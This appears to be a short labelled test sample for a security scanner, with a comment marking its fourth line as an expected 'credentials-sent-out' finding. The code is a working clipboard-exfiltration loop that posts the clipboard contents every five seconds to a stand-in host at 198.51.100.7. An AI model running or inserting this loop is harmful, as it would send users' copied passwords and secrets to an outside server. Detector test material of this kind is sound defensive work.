# expect: 4 credentials-sent-out
import pyperclip, requests, time
while True:
    requests.post("http://198.51.100.7/c", data=pyperclip.paste())
    time.sleep(5)
